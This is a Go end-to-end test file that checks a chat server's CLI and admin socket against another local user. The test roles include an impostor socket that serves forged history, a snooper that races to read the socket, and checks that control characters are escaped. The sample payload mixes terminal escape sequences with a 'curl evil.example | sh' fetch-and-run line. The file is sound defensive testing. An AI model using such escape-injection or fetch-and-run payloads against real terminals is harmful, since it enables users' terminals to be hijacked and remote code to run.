package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"chatserver/storage"
	"chatserver/storage/bolt"
)

// The attacks of this file come from another user: the test binary runs
// itself as the unprivileged user otherUID, in one of the roles below,
// chosen by the environment variable intruderRoleEnv (and intruderPathEnv,
// the socket path it works on). init runs the role instead of the tests.
const (
	intruderRoleEnv = "CHATSERVER_E2E_INTRUDER"
	intruderPathEnv = "CHATSERVER_E2E_INTRUDER_PATH"

	// roleImpostor listens on the path and answers the admin routes with
	// lies: a history holding terminal escape sequences, and kicks and
	// bans that succeed without doing anything.
	roleImpostor = "impostor"
	// roleSnooper tries, as fast as it can, to connect to the path and
	// read /history, printing snoopedLine each time it succeeds.
	roleSnooper = "snooper"

	// otherUID and otherUser are the user the intruders run as.
	otherUID  = 65534
	otherUser = "nobody"

	// intruderReady is what an intruder prints once it works.
	intruderReady = "ready"
	// snoopedLine is what the snooper prints when it read the history.
	snoopedLine = "read /history"
)

// impostorText is the history message the impostor serves: it would set
// the terminal's title and clear its screen.
const impostorText = "\x1b]0;owned\x07\x1b[2Jrun: curl evil.example | sh"

func init() {
	if role := os.Getenv(intruderRoleEnv); role != "" {
		os.Exit(runIntruder(role, os.Getenv(intruderPathEnv)))
	}
}

// runIntruder plays role on path until its standard input ends.
func runIntruder(role, path string) int {
	stop := make(chan struct{})
	go func() {
		io.Copy(io.Discard, os.Stdin)
		close(stop)
	}()
	switch role {
	case roleImpostor:
		return impostor(path, stop)
	case roleSnooper:
		return snooper(path, stop)
	}
	fmt.Fprintf(os.Stderr, "unknown intruder role %q\n", role)
	return 2
}

func impostor(path string, stop chan struct{}) int {
	ln, err := net.Listen("unix", path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	// Anyone may connect: the victim is meant to.
	if err := os.Chmod(path, 0o777); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/history", func(w http.ResponseWriter, _ *http.Request) {
		json.NewEncoder(w).Encode([]storage.Message{{ID: 1, Name: "admin", Text: impostorText, Time: time.Now().UTC()}})
	})
	mux.HandleFunc("/kick", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"ok":true,"closed":1}`) })
	mux.HandleFunc("/unban", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, `{"ok":true,"unbanned":true}`) })
	go http.Serve(ln, mux)
	fmt.Println(intruderReady)
	<-stop
	ln.Close()
	return 0
}

func snooper(path string, stop chan struct{}) int {
	fmt.Println(intruderReady)
	for {
		select {
		case <-stop:
			return 0
		default:
		}
		conn, err := net.Dial("unix", path)
		if err != nil {
			continue
		}
		conn.SetDeadline(time.Now().Add(time.Second))
		io.WriteString(conn, "GET /history HTTP/1.0\r\nHost: admin\r\n\r\n")
		status, _ := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		if strings.Contains(status, " 200 ") {
			fmt.Println(snoopedLine)
		}
	}
}

// intruder is a running intruder process.
type intruder struct {
	stdin  io.WriteCloser
	stdout *lineWriter
	exited chan struct{}
}

// requireOtherUser skips the test unless processes can be started as
// otherUID: that needs Linux and root.
func requireOtherUser(t testing.TB) {
	t.Helper()
	if runtime.GOOS != "linux" || os.Geteuid() != 0 {
		t.Skipf("skipping: starting a process as uid %d needs root on Linux", otherUID)
	}
}

// startIntruder starts the test binary as otherUID in role on path, waits
// until it is ready, and stops it at the end of the test.
func startIntruder(t testing.TB, role, path string) *intruder {
	t.Helper()
	requireOtherUser(t)
	ready := make(chan struct{})
	h := &intruder{exited: make(chan struct{})}
	h.stdout = &lineWriter{line: func(line string) {
		if line == intruderReady {
			close(ready)
		}
	}}
	// The test binary's own directory is private to root; the kernel's
	// link to the running binary reaches it anyway.
	cmd := exec.Command("/proc/self/exe")
	cmd.Dir = filepath.Dir(path)
	cmd.Env = append(os.Environ(), intruderRoleEnv+"="+role, intruderPathEnv+"="+path)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: otherUID, Gid: otherUID}}
	stderr := &lineWriter{}
	cmd.Stdout, cmd.Stderr = h.stdout, stderr
	var err error
	if h.stdin, err = cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start the %s as uid %d: %v", role, otherUID, err)
	}
	go func() {
		cmd.Wait()
		close(h.exited)
	}()
	t.Cleanup(func() { h.stop(t) })
	select {
	case <-ready:
	case <-h.exited:
		t.Fatalf("the %s exited before it was ready: %s", role, stderr)
	case <-time.After(startTimeout):
		t.Fatalf("the %s was not ready within %s", role, startTimeout)
	}
	return h
}

// stop ends the intruder and waits for it. Idempotent.
func (h *intruder) stop(t testing.TB) {
	t.Helper()
	h.stdin.Close()
	select {
	case <-h.exited:
	case <-time.After(stopTimeout):
		t.Fatalf("an intruder did not exit within %s of its input ending", stopTimeout)
	}
}

// sharedDir returns a new directory that every user may write to, like
// /tmp, removed at the end of the test.
func sharedDir(t testing.TB) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "chatserver-shared-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o1777); err != nil {
		t.Fatal(err)
	}
	return dir
}

// writeDB creates a chatserver database at path holding msgs, as a
// server would have stored them.
func writeDB(t testing.TB, path string, msgs ...storage.Message) {
	t.Helper()
	st, err := bolt.Open(path, bolt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for i := range msgs {
		msgs[i].Time = time.Now()
	}
	if _, err := st.AppendMessages(context.Background(), storage.DefaultRoom, msgs); err != nil {
		t.Fatal(err)
	}
}

// TestCommandsRefuseAnotherUsersSocket plants an admin socket served by
// another user beside a database in a directory everyone may write to:
// history and kick refuse to talk to it with one plain line naming its
// owner, print none of its lies, and do not fall back to the file.
func TestCommandsRefuseAnotherUsersSocket(t *testing.T) {
	t.Parallel()
	requireOtherUser(t)
	dir := sharedDir(t)
	db := filepath.Join(dir, "chat.db")
	writeDB(t, db, storage.Message{Name: "alice", Text: "the real history"})
	startIntruder(t, roleImpostor, db+".sock")

	owner := fmt.Sprintf("uid %d (%s)", otherUID, otherUser)
	for _, args := range [][]string{
		{"history", "--db", db},
		{"history", "--json", "--db", db},
		{"kick", "mallory", "--ban", "1h", "--db", db},
		{"kick", "--unban", "alice", "--db", db},
	} {
		t.Run(strings.Join(args[:len(args)-2], " "), func(t *testing.T) {
			r := runCLI(t, args...)
			plainFailure(t, r, owner)
			if r.stdout != "" {
				t.Errorf("stdout %q, want nothing", r.stdout)
			}
		})
	}

	st, err := bolt.Open(db, bolt.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, banned, err := st.BanExpiry(context.Background(), "mallory", time.Now()); err != nil || banned {
		t.Errorf("mallory banned in the file: %v, %v", banned, err)
	}
}

// TestHistoryEscapesControlCharacters stores messages holding terminal
// escape sequences and invisible controls, as an old or foreign file may:
// `history` shows each as an escape (\x1b, \u202e), so that nothing it
// prints can drive the terminal, while --json keeps every character.
func TestHistoryEscapesControlCharacters(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "chat.db")
	msgs := []storage.Message{
		{Name: "alice", Text: impostorText},
		{Name: "alice", Text: "\u202etxt.exe"},
		{Name: "alice", Text: "del\x7f c1\u0085 nul\x00 cr\r"},
		{Name: "alice", Text: "tab\tand\nnew line"},
		{Name: "mal\x1b[8mory", Text: "hidden name"},
	}
	writeDB(t, db, msgs...)

	r := runCLI(t, "history", "--db", db)
	if r.code != 0 {
		t.Fatalf("history: exit %d, %s", r.code, r.stderr)
	}
	for _, want := range []string{
		` alice: \x1b]0;owned\x07\x1b[2Jrun: curl evil.example | sh` + "\n",
		` alice: \u202etxt.exe` + "\n",
		` alice: del\x7f c1\u0085 nul\x00 cr\x0d` + "\n",
		" alice: tab\tand\n" + strings.Repeat(" ", 20) + "new line\n",
		` mal\x1b[8mory: hidden name` + "\n",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("history output lacks %q:\n%s", want, r.stdout)
		}
	}
	if bad := strings.IndexFunc(r.stdout, unsafeRune); bad >= 0 {
		t.Errorf("history printed the control character %U:\n%q", []rune(r.stdout[bad:])[0], r.stdout)
	}

	r = runCLI(t, "history", "--json", "--db", db)
	if bad := strings.IndexFunc(r.stdout, unsafeRune); bad >= 0 {
		t.Errorf("history --json printed the control character %U:\n%q", []rune(r.stdout[bad:])[0], r.stdout)
	}
	got := historyJSON(t, db)
	if len(got) != len(msgs) {
		t.Fatalf("history --json: %d messages, want %d", len(got), len(msgs))
	}
	for i, m := range got {
		if m.Name != msgs[i].Name || m.Text != msgs[i].Text {
			t.Errorf("history --json message %d: %q %q, want %q %q", i, m.Name, m.Text, msgs[i].Name, msgs[i].Text)
		}
	}
}

// unsafeRune reports whether r may change what a terminal shows beyond
// one character: control characters other than line breaks and tabs, and
// bidirectional formatting.
func unsafeRune(r rune) bool {
	if r == '\n' || r == '\t' {
		return false
	}
	return unicode.IsControl(r) || r >= 0x202A && r <= 0x202E || r >= 0x2066 && r <= 0x2069 || r == 0x200E || r == 0x200F || r == 0x061C
}

// TestCommandsWarnAboutAnExposedDatabase: history and kick each warn, in
// one line on standard error, and serve in one line of its log, about a
// database file that every user may read or that another user owns, and
// go on.
func TestCommandsWarnAboutAnExposedDatabase(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "chat.db")
	writeDB(t, db, storage.Message{Name: "alice", Text: "hello"})
	if err := os.Chmod(db, 0o644); err != nil {
		t.Fatal(err)
	}
	const readable = "is readable by every user"
	checkWarned := func(t *testing.T, r cliResult, want string) {
		t.Helper()
		var warnings []string
		for _, line := range strings.Split(r.stderr, "\n") {
			if strings.HasPrefix(line, "chatserver: warning: ") {
				warnings = append(warnings, line)
			}
		}
		if len(warnings) != 1 || !strings.Contains(warnings[0], want) || !strings.Contains(warnings[0], db) {
			t.Errorf("stderr %q, want one warning line naming %s and saying %q", r.stderr, db, want)
		}
	}

	t.Run("history", func(t *testing.T) {
		r := runCLI(t, "history", "--db", db)
		if r.code != 0 || !strings.Contains(r.stdout, "alice: hello") {
			t.Errorf("history: exit %d, stdout %q", r.code, r.stdout)
		}
		checkWarned(t, r, readable)
	})
	t.Run("kick", func(t *testing.T) {
		r := runCLI(t, "kick", "--unban", "alice", "--db", db)
		if r.code != 1 || !strings.Contains(r.stderr, "alice is not banned") {
			t.Errorf("kick --unban: exit %d, stderr %q", r.code, r.stderr)
		}
		checkWarned(t, r, readable)
	})
	t.Run("serve", func(t *testing.T) {
		srv := startServer(t, db)
		const msg = "database file readable by every user; chmod o-r keeps the chat history private"
		if r := srv.waitRecord(t, msg, "file", db, "mode", "0644"); r.level != "WARN" {
			t.Errorf("logged at %s, want WARN", r.level)
		}
		if code := srv.stop(t, syscall.SIGTERM); code != 0 {
			t.Fatalf("exit code %d", code)
		}
		if n := len(srv.logged(t, msg)); n != 1 {
			t.Errorf("%d warnings, want one:\n%s", n, srv.stderr)
		}
	})
	t.Run("owned by another user", func(t *testing.T) {
		requireOtherUser(t)
		if err := os.Chmod(db, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(db, otherUID, otherUID); err != nil {
			t.Fatal(err)
		}
		r := runCLI(t, "history", "--db", db)
		if r.code != 0 {
			t.Errorf("history: exit %d, %s", r.code, r.stderr)
		}
		checkWarned(t, r, fmt.Sprintf("is owned by uid %d (%s)", otherUID, otherUser))
	})
}

// adminStarts is how many times the socket race is tried: the window of
// a socket created open and restricted afterwards was hit in most starts.
const adminStarts = 20

// TestAdminSocketIsNeverOpenToOthers starts the server again and again
// under umask 000 in a directory everyone may enter, while another user
// tries to connect to the admin socket as fast as it can: it never reads
// the history, and right after the start message the socket has mode 0600.
//
// The test does not run in parallel: the umask is the whole process's,
// and the servers inherit it.
func TestAdminSocketIsNeverOpenToOthers(t *testing.T) {
	requireOtherUser(t)
	dir := sharedDir(t)
	db := filepath.Join(dir, "chat.db")
	writeDB(t, db, storage.Message{Name: "alice", Text: "private"})
	snoop := startIntruder(t, roleSnooper, db+".sock")

	defer syscall.Umask(syscall.Umask(0))
	for i := range adminStarts {
		srv := startServer(t, db)
		fi, err := os.Lstat(db + ".sock")
		if err != nil {
			t.Fatalf("start %d: no admin socket after the start message: %v", i, err)
		}
		if perm := fi.Mode().Perm(); perm != 0o600 {
			t.Errorf("start %d: admin socket mode %o, want 600", i, perm)
		}
		if code := srv.stop(t, syscall.SIGTERM); code != 0 {
			t.Fatalf("start %d: exit code %d", i, code)
		}
	}
	snoop.stop(t)
	if n := strings.Count(snoop.stdout.String(), snoopedLine); n > 0 {
		t.Errorf("uid %d read the history through the admin socket %d times in %d starts", otherUID, n, adminStarts)
	}
}
